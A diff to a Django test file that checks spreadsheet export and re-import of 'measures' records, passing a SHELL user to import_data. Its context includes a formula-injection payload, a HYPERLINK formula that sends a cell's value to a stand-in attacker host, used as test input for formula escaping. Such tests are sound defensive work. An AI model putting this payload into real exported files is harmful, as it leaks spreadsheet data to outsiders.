@@ -16,6 +16,7 @@ from django.contrib.auth.models import User
 from measures.formulae import escape_formula, unescape_formula
 from measures.models import Measure
 from measures.resources import MeasureResource
+from measures.review import SHELL
 from tests import factories
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -119,7 +120,7 @@ def test_admin_xlsx_export(curator):
 def test_an_exported_file_imports_back_unchanged(trapped):
     exported = MeasureResource().export(queryset=Measure.objects.filter(slug="ai-platform")).csv
     Measure.objects.filter(slug="ai-platform").update(title="改过的标题")
-    result = MeasureResource().import_data(tablib.Dataset().load(exported, format="csv"), raise_errors=True)
+    result = MeasureResource().import_data(tablib.Dataset().load(exported, format="csv"), raise_errors=True, user=SHELL)
     assert not result.has_validation_errors()
     measure = Measure.objects.get(slug="ai-platform")
     assert {field: getattr(measure, field) for field in TRAPS} == TRAPS
